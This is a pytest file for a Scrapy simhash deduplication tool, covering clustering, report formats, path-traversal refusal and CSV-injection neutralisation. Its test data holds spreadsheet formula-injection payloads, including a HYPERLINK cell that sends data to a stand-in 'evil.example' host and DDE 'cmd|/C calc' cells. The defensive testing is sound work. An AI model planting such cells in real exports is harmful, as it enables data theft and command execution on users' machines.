"""Cluster building, changed pages, summaries, report paths (never outside their folder) and report files."""

from __future__ import annotations

import csv
import json
import os
import re
from datetime import datetime, timezone
from pathlib import Path

import pytest

from simhash_scrapy.backends import ClusterMember
from simhash_scrapy.core.cluster.clustering import Outcome, Rule, rule_of
from simhash_scrapy.core.files import atomic_write, write_atomic
from simhash_scrapy.core.report.report import (
    CHANGED_COLUMNS,
    CSV_COLUMNS,
    build_changes,
    build_clusters,
    changes_path,
    check_format_available,
    describe_report,
    render_report,
    report_summary,
    write_report,
)
from simhash_scrapy.core.report.report_path import expand_report_path, report_params

A = 0x0F0F_0000_0000_00FF


def member(url: str, fp: int, canonical: str | None = None, distance: int | None = None, **kw: object) -> ClusterMember:
    return ClusterMember(url=url, fingerprint=fp, scope=kw.pop("scope", "s"), canonical_url=canonical,  # type: ignore[arg-type]
                         distance=distance, indexed=canonical is None, **kw)  # type: ignore[arg-type]


MEMBERS = [
    member("http://x/a", A, depth=0),
    member("http://x/b", 0x1234),  # unique, alone: not reported
    member("http://x/a?s=1", A ^ 0b1, "http://x/a", 1, referer="http://x/a", depth=1),
    member("http://x/c", 0xFFFF_0000),
    member("http://x/c/print", 0xFFFF_0007, "http://x/c", 3, referer="http://x/c", depth=1),
    member("http://x/a?s=2", A ^ 0b11, "http://x/a", 2, referer="http://x/", depth=2),
]


def test_build_clusters() -> None:
    clusters = build_clusters(MEMBERS, max_distance=4)
    assert clusters == [
        {
            "cluster_id": 1,
            "canonical": "http://x/a",
            "representative": "http://x/a",
            "representative_reason": "no_query",
            "size": 3,
            "scope": "s",
            "max_distance": 4,
            "members": [
                {"url": "http://x/a", "fingerprint": "0f0f0000000000ff", "distance": 0, "referer": None, "depth": 0, "rule": None, "canonical_link": None},
                {"url": "http://x/a?s=1", "fingerprint": "0f0f0000000000fe", "distance": 1, "referer": "http://x/a", "depth": 1, "rule": "simhash", "canonical_link": None},
                {"url": "http://x/a?s=2", "fingerprint": "0f0f0000000000fc", "distance": 2, "referer": "http://x/", "depth": 2, "rule": "simhash", "canonical_link": None},
            ],
        },
        {
            "cluster_id": 2,
            "canonical": "http://x/c",
            "representative": "http://x/c",
            "representative_reason": "not_variant",
            "size": 2,
            "scope": "s",
            "max_distance": 4,
            "members": [
                {"url": "http://x/c", "fingerprint": "00000000ffff0000", "distance": 0, "referer": None, "depth": None, "rule": None, "canonical_link": None},
                {"url": "http://x/c/print", "fingerprint": "00000000ffff0007", "distance": 3, "referer": "http://x/c", "depth": 1, "rule": "simhash", "canonical_link": None},
            ],
        },
    ]  # fmt: skip
    # Without k a simhash member's rule is unknown (None), never guessed.
    assert {m["rule"] for c in build_clusters(MEMBERS) for m in c["members"]} == {None}


def test_each_member_names_its_rule_and_k() -> None:
    """simhash within k, exact short page, one edit (farther than k): the vocabulary of core.cluster.clustering.Rule."""
    members = [
        member("http://x/p", 0xFF),
        member("http://x/p?a", 0xFF ^ 0b111, "http://x/p", 3),  # within k = 3
        member("http://x/p?b", 0xFF ^ 0xF0F0, "http://x/p", 8),  # 8 > k: only the one-edit rule finds it
        member("http://x/s", 77, exact=True),
        member("http://x/s?c", 77, "http://x/s", 0, exact=True),
    ]
    clusters = build_clusters(members, max_distance=3)
    rules = {m["url"]: m["rule"] for c in clusters for m in c["members"]}
    assert rules == {"http://x/p": None, "http://x/p?a": "simhash", "http://x/p?b": "one_edit",
                     "http://x/s": None, "http://x/s?c": "exact"}  # fmt: skip
    # k = 8: the same distance is within k.
    assert build_clusters(members, max_distance=8)[0]["members"][2]["rule"] == "simhash"
    records = [json.loads(line) for line in render_report(clusters, "jsonl").splitlines()]
    assert [r["max_distance"] for r in records] == [3, 3]
    assert [m["rule"] for m in records[0]["members"]] == [None, "simhash", "one_edit"]
    rows = list(csv.DictReader(render_report(clusters, "csv").splitlines()))
    assert [(r["url"], r["rule"], r["max_distance"]) for r in rows] == [
        ("http://x/p", "", "3"), ("http://x/p?a", "simhash", "3"), ("http://x/p?b", "one_edit", "3"),
        ("http://x/s", "", "3"), ("http://x/s?c", "exact", "3"),
    ]  # fmt: skip
    assert Rule.ONE_EDIT.describe(8, 3) == "one edit, distance 8 > k=3"
    assert Rule.SIMHASH.describe(3, 3) == "simhash within k=3, distance 3"
    assert Rule.EXACT.describe(0, 3) == "exact short page, distance 0, k=3"
    assert rule_of(False, 4, 3) is Rule.ONE_EDIT and rule_of(False, 3, 3) is Rule.SIMHASH and rule_of(True, 0, 3) is Rule.EXACT


def test_scopes_are_separate_clusters_and_mappings_work() -> None:
    members = [
        {"url": "http://x/a", "fingerprint": 1, "scope": "one", "canonical_url": None},
        {"url": "http://x/a", "fingerprint": 1, "scope": "two", "canonical_url": None},
        {"url": "http://x/a2", "fingerprint": 3, "scope": "two", "canonical_url": "http://x/a", "distance": 1},
    ]
    clusters = build_clusters(members)
    assert len(clusters) == 1
    assert clusters[0]["scope"] == "two"
    assert [m["url"] for m in clusters[0]["members"]] == ["http://x/a", "http://x/a2"]


def test_text_is_kept_only_when_asked() -> None:
    members = [member("u1", 1, text="hello"), member("u2", 3, "u1", 1, text="hello!")]
    assert build_clusters(members)[0]["members"][1]["text"] == "hello!"
    assert "text" not in build_clusters(members, include_text=False)[0]["members"][1]
    # JSON Lines never carries texts
    assert "text" not in render_report(build_clusters(members), "jsonl")


def test_jsonl_and_csv_files(tmp_path: Path) -> None:
    clusters = build_clusters(MEMBERS, max_distance=4)
    path = write_report(tmp_path / "deep" / "r.jsonl", clusters, "jsonl")
    lines = path.read_text(encoding="utf-8").splitlines()
    assert [json.loads(line) for line in lines] == [{"type": "cluster", **c} for c in clusters]
    assert list(json.loads(lines[0])) == [
        "type", "cluster_id", "canonical", "representative", "representative_reason", "size", "scope", "max_distance",
        "members",
    ]

    path = write_report(tmp_path / "r.csv", clusters, "csv")
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) == 5
    assert rows[0] == {
        "cluster_id": "1", "cluster_size": "3", "scope": "s", "canonical": "http://x/a", "url": "http://x/a",
        "fingerprint": "0f0f0000000000ff", "distance": "0", "referer": "", "depth": "0", "rule": "", "max_distance": "4",
        "representative": "http://x/a", "representative_reason": "no_query", "canonical_link": "",
    }
    assert rows[1]["rule"] == "simhash"
    assert rows[4]["url"] == "http://x/c/print" and rows[4]["distance"] == "3"
    # No page changed (a first crawl): no changed-pages file.
    assert not (tmp_path / "r.changed.csv").exists()
    assert not [p for p in tmp_path.rglob("*.tmp")], "no temporary file is left behind"


def test_empty_report(tmp_path: Path) -> None:
    assert write_report(tmp_path / "r.jsonl", [], "jsonl").read_text() == ""
    assert write_report(tmp_path / "r.csv", [], "csv").read_text().strip() == ",".join(CSV_COLUMNS)


def test_html_report_uses_render_html(tmp_path: Path) -> None:
    pytest.importorskip("simhash_scrapy.core.report.html_report")
    check_format_available("html")
    path = write_report(tmp_path / "r.html", build_clusters(MEMBERS), "html", {"pages": 6, "title": "T"})
    text = path.read_text(encoding="utf-8")
    assert text.lstrip().lower().startswith("<!doctype html")
    assert "http://x/c/print" in text


class FakeSpider:
    name = "shop"
    category = "books/../../etc"
    job = 7


NOW = datetime(2026, 5, 1, 12, 30, 15, 123, tzinfo=timezone.utc)


def test_placeholders_expand(tmp_path: Path) -> None:
    params = report_params(FakeSpider(), NOW)
    assert expand_report_path("reports/%(name)s-%(time)s.jsonl", params, cwd=tmp_path) == (
        tmp_path / "reports" / "shop-2026-05-01T12-30-15+00-00.jsonl"
    )
    assert expand_report_path("reports/%(name)s/%(job)03d.csv", params, cwd=tmp_path) == tmp_path / "reports/shop/007.csv"
    # a literal percent sign is kept
    assert expand_report_path("reports/100%-%(name)s.jsonl", params, cwd=tmp_path) == tmp_path / "reports/100%-shop.jsonl"
    # absolute paths and file:// URIs
    assert expand_report_path(f"file://{tmp_path}/r%20x/%(name)s.jsonl", params) == tmp_path / "r x/shop.jsonl"
    assert expand_report_path(str(tmp_path / "%(name)s.jsonl"), params) == tmp_path / "shop.jsonl"


def test_values_cannot_leave_the_folder(tmp_path: Path) -> None:
    params = report_params(FakeSpider(), NOW)
    path = expand_report_path("reports/%(category)s.jsonl", params, cwd=tmp_path)
    assert path == tmp_path / "reports" / "books_.._.._etc.jsonl"
    assert path.parent == tmp_path / "reports"

    class Dots:
        name = ".."

    assert expand_report_path("reports/%(name)s/x.jsonl", report_params(Dots(), NOW), cwd=tmp_path) == (
        tmp_path / "reports/_/x.jsonl"
    )


def test_template_that_leaves_its_folder_is_refused(tmp_path: Path) -> None:
    params = report_params(FakeSpider(), NOW)
    with pytest.raises(ValueError, match=r"^uri=.*not a file inside"):  # the argument's name, from the library
        expand_report_path("reports/%(name)s/../../../outside.jsonl", params, cwd=tmp_path)
    with pytest.raises(ValueError, match=r"^SIMHASH_REPORT_URI=.*not a file inside"):  # the glue passes its setting
        expand_report_path("reports/%(name)s/../../../outside.jsonl", params, cwd=tmp_path, name="SIMHASH_REPORT_URI")
    with pytest.raises(ValueError, match="not a file inside"):
        expand_report_path("reports/%(name)s/..", params, cwd=tmp_path)


def test_symlink_out_of_the_folder_is_refused(tmp_path: Path) -> None:
    (tmp_path / "reports").mkdir()
    (tmp_path / "elsewhere").mkdir()
    os.symlink(tmp_path / "elsewhere", tmp_path / "reports" / "shop")
    params = report_params(FakeSpider(), NOW)
    with pytest.raises(ValueError, match="not a file inside"):
        expand_report_path("reports/%(name)s/r.jsonl", params, cwd=tmp_path)


def test_unknown_placeholder(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"uses %\(nope\)s, but the spider has no attribute 'nope'"):
        expand_report_path("reports/%(nope)s.jsonl", report_params(FakeSpider(), NOW), cwd=tmp_path)


def test_html_format_without_the_renderer_fails_at_start(monkeypatch: pytest.MonkeyPatch) -> None:
    import sys

    from scrapy.utils.test import get_crawler

    from simhash_scrapy.middleware import SimhashMiddleware

    monkeypatch.setitem(sys.modules, "simhash_scrapy.core.report.html_report", None)  # import now raises ImportError
    # The core names its argument; the crawl names the setting.
    with pytest.raises(ValueError, match=r"report_format='html' needs simhash_scrapy\.core\.report\.html_report"):
        check_format_available("html")
    crawler = get_crawler(settings_dict={"SIMHASH_REPORT_URI": "reports/%(name)s.html"})
    # In a crawl the error waits for the spider to open, which then logs it and closes (simhash_error).
    error = SimhashMiddleware.from_crawler(crawler).state.error
    assert error is not None and re.match(r"SIMHASH_REPORT_FORMAT='html' needs .* use 'jsonl' or 'csv'", error)


def test_report_files_get_ordinary_permissions(tmp_path: Path) -> None:
    umask = os.umask(0o022)
    try:
        path = write_report(tmp_path / "r.jsonl", build_clusters(MEMBERS), "jsonl")
    finally:
        os.umask(umask)
    assert path.stat().st_mode & 0o777 == 0o644
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


# ------------------------------------------------------------- re-crawl answers
#: A re-crawl's record: one canonical page with a member, a changed page, an unchanged page,
#: a changed short page (exact digest: no distance) and a changed item (not a page).
RECRAWL = [
    member("http://x/a", A, outcome=Outcome.UNCHANGED, previous_fingerprint=A),
    member("http://x/a2", A ^ 1, "http://x/a", 1, outcome=Outcome.NEAR_DUPLICATE),
    member("http://x/b", 0xFF00, outcome=Outcome.CHANGED, previous_fingerprint=0xFF00 ^ 0b1111_0111),
    member("http://x/c", 0x1234, outcome=Outcome.UNCHANGED, previous_fingerprint=0x1234),
    member("http://x/short", 0xABCD, outcome=Outcome.CHANGED, previous_fingerprint=0xDCBA, exact=True),
    member("http://x/i", 0x77, outcome=Outcome.CHANGED, previous_fingerprint=0x70, scope="item:s"),
]


def test_build_changes_lists_changed_pages_only() -> None:
    assert build_changes(RECRAWL) == [
        {"url": "http://x/b", "scope": "s", "fingerprint": "000000000000ff00",
         "previous_fingerprint": "000000000000fff7", "distance": 7},
        {"url": "http://x/short", "scope": "s", "fingerprint": "000000000000abcd",
         "previous_fingerprint": "000000000000dcba", "distance": None},
    ]  # fmt: skip
    assert build_changes(MEMBERS) == []  # a first crawl: nothing changed


def test_summary_and_one_line_description() -> None:
    clusters = build_clusters(RECRAWL)
    summary = report_summary(RECRAWL, clusters, title="T", max_distance=3, source="here", generated=NOW)
    assert {k: summary[k] for k in ("pages", "unique", "near_duplicates", "unchanged", "changed", "clusters")} == {
        "pages": 5, "unique": 4, "near_duplicates": 1, "unchanged": 2, "changed": 2, "clusters": 1,
    }  # fmt: skip
    assert describe_report(summary) == (
        "5 pages: 4 unique, 1 near-duplicate in 1 cluster; since the last crawl: 2 changed, 2 unchanged"
    )
    first = report_summary(MEMBERS, build_clusters(MEMBERS), title="T", max_distance=3, source="here")
    assert describe_report(first) == "6 pages: 3 unique, 3 near-duplicates in 2 clusters"


def test_changed_pages_in_each_format(tmp_path: Path) -> None:
    clusters, changes = build_clusters(RECRAWL), build_changes(RECRAWL)
    summary = report_summary(RECRAWL, clusters, title="T", max_distance=3, source="here")
    # JSON Lines: the cluster lines, then one "changed" line per page.
    lines = [json.loads(line) for line in write_report(tmp_path / "r.jsonl", clusters, "jsonl", changes=changes).read_text().splitlines()]
    assert [line["type"] for line in lines] == ["cluster", "changed", "changed"]
    assert lines[1] == {"type": "changed", **changes[0]}
    # CSV: the clusters in r.csv, the changed pages in r.changed.csv.
    path = write_report(tmp_path / "r.csv", clusters, "csv", changes=changes)
    assert changes_path(path) == tmp_path / "r.changed.csv"
    with changes_path(path).open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert rows == [
        {"scope": "s", "url": "http://x/b", "previous_fingerprint": "000000000000fff7", "fingerprint": "000000000000ff00", "distance": "7"},
        {"scope": "s", "url": "http://x/short", "previous_fingerprint": "000000000000dcba", "fingerprint": "000000000000abcd", "distance": ""},
    ]  # fmt: skip
    with path.open(newline="", encoding="utf-8") as fh:
        assert [r["url"] for r in csv.DictReader(fh)] == ["http://x/a", "http://x/a2"]
    assert changes_path(path).read_text(encoding="utf-8").splitlines()[0] == ",".join(CHANGED_COLUMNS)
    # The next report at this path has no changed page: the old list goes, it described another run.
    write_report(path, clusters, "csv")
    assert not changes_path(path).exists()
    # HTML: a section with one row per changed page, and the counts.
    page = write_report(tmp_path / "r.html", clusters, "html", summary, changes=changes).read_text()
    assert page.count('<tr class="changed-page">') == 2
    assert '<dd data-stat="changed">2</dd>' in page and '<dd data-stat="unchanged">2</dd>' in page
    assert '<a href="http://x/b" rel="noopener noreferrer" target="_blank">http://x/b</a>' in page
    # A first crawl's page has no such section and no such counts.
    first = write_report(tmp_path / "f.html", build_clusters(MEMBERS), "html", {"pages": 6}).read_text()
    assert "changed-section" not in first and 'data-stat="unchanged"' not in first


@pytest.mark.parametrize(
    ("name", "expected"), [("r.csv", "r.changed.csv"), ("R.CSV", "R.changed.CSV"), ("report", "report.changed.csv")]
)
def test_changes_path(tmp_path: Path, name: str, expected: str) -> None:
    assert changes_path(tmp_path / name) == tmp_path / expected


# ------------------------------------------------------------------ atomic files
def test_atomic_write_replaces_whole_or_not_at_all(tmp_path: Path) -> None:
    target = tmp_path / "f.bin"
    write_atomic(target, b"old")
    with pytest.raises(RuntimeError):
        with atomic_write(target) as handle:
            handle.write(b"half of the new")
            raise RuntimeError("crash halfway")
    assert target.read_bytes() == b"old"  # untouched
    assert sorted(p.name for p in tmp_path.iterdir()) == ["f.bin"]  # and the temporary file is gone
    write_atomic(target, "new\r\n")  # text: UTF-8, newlines untouched
    assert target.read_bytes() == b"new\r\n"
    with pytest.raises(ValueError, match="mode"):
        with atomic_write(target, "ab"):
            pass


# ------------------------------------------------------------- hostile content
#: Cells a spreadsheet would run (OWASP, "CSV Injection"), also behind spaces and quotes.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1", "'=1+1", '"=1+1', "\u00a0@SUM(A1)", "\x0b-1",
]  # fmt: skip
#: Every character ``str.splitlines`` breaks a line on.
LINE_BREAKS = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]


def is_formula(cell: str) -> bool:
    """OWASP: a cell starting with = + - @ tab or a line break, also behind spaces and quotes."""
    return cell[:1] in ("\t", "\r", "\n") or cell.lstrip("'\" \t\r\n\x0b\x0c\xa0\u3000")[:1] in ("=", "+", "-", "@")


def neutralised(cell: str) -> bool:
    """What a spreadsheet sees: not a formula (a leading ' makes the cell text)."""
    return cell.startswith("'") or not is_formula(cell)


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cell_neutralises_formulas(text: str) -> None:
    from simhash_scrapy.core.report.report import csv_cell

    assert csv_cell(text) == "'" + text
    assert is_formula(text)  # the list holds real formulas
    for harmless in ("https://x.example/a-b", "a=b", "shop#3f09", "0f0f0000000000ff", "", 3, None):
        assert csv_cell(harmless) == harmless


def hostile_members() -> list[ClusterMember]:
    members = [member("https://shop.example/", 0x0F0F, scope="=cmd|'/C calc'!A0")]
    for i, text in enumerate(FORMULAS + [f"https://shop.example/x{b}y" for b in LINE_BREAKS]):
        members.append(
            member(text, 0x0F0F ^ (1 << (i % 3)), "https://shop.example/", i % 3,
                   referer=FORMULAS[i % len(FORMULAS)], depth=i, scope="=cmd|'/C calc'!A0")
        )  # fmt: skip
    return members


def test_csv_report_of_hostile_urls_reads_back_neutralised(tmp_path: Path) -> None:
    members = hostile_members()
    clusters = build_clusters(members, max_distance=4)
    path = write_report(tmp_path / "r.csv", clusters, "csv")
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == list(CSV_COLUMNS) and len(rows) == 1 + len(members)  # parseable: one row per member
    assert all(len(row) == len(CSV_COLUMNS) for row in rows)
    cells = [cell for row in rows[1:] for cell in row]
    assert all(neutralised(cell) for cell in cells), [c for c in cells if not neutralised(c)]
    # Each text cell is the original with a quote in front when it was a formula, else unchanged.
    urls = [row[CSV_COLUMNS.index("url")] for row in rows[1:]]
    assert urls == ["'" + m.url if is_formula(m.url) else m.url for m in members]
    assert {row[CSV_COLUMNS.index("scope")] for row in rows[1:]} == {"'=cmd|'/C calc'!A0"}
    assert rows[2][CSV_COLUMNS.index("referer")] == "'" + FORMULAS[0]
    # The changed pages' CSV too.
    changes = [{"url": text, "scope": "@s", "fingerprint": "01", "previous_fingerprint": "02", "distance": None}
               for text in FORMULAS]  # fmt: skip
    write_report(tmp_path / "r.csv", clusters, "csv", changes=changes)
    with (tmp_path / "r.changed.csv").open(newline="", encoding="utf-8") as fh:
        changed = list(csv.reader(fh))[1:]
    assert [row[1] for row in changed] == ["'" + text for text in FORMULAS]
    assert all(neutralised(cell) for row in changed for cell in row)


def test_jsonl_report_keeps_one_record_a_line_for_every_line_splitter(tmp_path: Path) -> None:
    members = hostile_members()
    members.append(member("https://shop.example/t\u2028" + "".join(LINE_BREAKS), 0x0F0E, "https://shop.example/", 1,
                          scope="=cmd|'/C calc'!A0", referer="\u2029\x85"))  # fmt: skip
    clusters = build_clusters(members, max_distance=4)
    changes = [{"url": f"https://shop.example/c{b}", "scope": "s", "fingerprint": "01", "previous_fingerprint": None,
                "distance": None} for b in LINE_BREAKS]  # fmt: skip
    path = write_report(tmp_path / "r.jsonl", clusters, "jsonl", changes=changes)
    text = path.read_text(encoding="utf-8")
    lines = text.splitlines()
    assert len(lines) == 1 + len(changes)  # one cluster, one line per changed page
    assert lines == text.split("\n")[:-1]  # the same lines for a splitter that knows only "\n"
    assert lines == path.read_bytes().decode("utf-8").splitlines()
    records = [json.loads(line) for line in lines]
    assert [m["url"] for m in records[0]["members"]] == [m.url for m in members]  # json.loads restores every character
    assert records[0]["members"][-1]["referer"] == "\u2029\x85"
    assert [r["url"] for r in records[1:]] == [c["url"] for c in changes]
    assert not any(ch in text for ch in LINE_BREAKS if ch not in ("\n",))


@pytest.mark.slow  # the dedup command in a subprocess
def test_dedup_of_hostile_items_writes_safe_csv_and_jsonl(tmp_path: Path) -> None:
    """Item URLs taken from page data (``scrapy simhash dedup items.jsonl``): read back with csv and splitlines."""
    from conftest import article_html, article_words
    from command_helpers import simhash  # a real ``scrapy`` process

    body = article_html("Story", article_words(41))
    urls = FORMULAS + [f"https://news.example/p{b}q" for b in LINE_BREAKS]
    feed = tmp_path / "items.jsonl"
    feed.write_text("".join(json.dumps({"url": url, "body": body}) + "\n" for url in urls), encoding="utf-8")
    for fmt in ("csv", "jsonl"):
        out = tmp_path / f"r.{fmt}"
        proc = simhash("dedup", str(feed), "-o", str(out), cwd=tmp_path)
        assert proc.returncode == 0, proc.stderr
    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [row["url"] for row in rows] == ["'" + url if is_formula(url) else url for url in urls]
    assert [row["canonical"] for row in rows] == ["'" + urls[0]] * len(urls)
    assert all(neutralised(cell) for row in rows for cell in row.values())
    assert [row["rule"] for row in rows] == [""] + ["simhash"] * (len(urls) - 1)
    lines = (tmp_path / "r.jsonl").read_text(encoding="utf-8").splitlines()
    cluster, summary = [json.loads(line) for line in lines]  # one record a line: the cluster, then the summary
    assert summary["type"] == "summary"
    assert [m["url"] for m in cluster["members"]] == urls
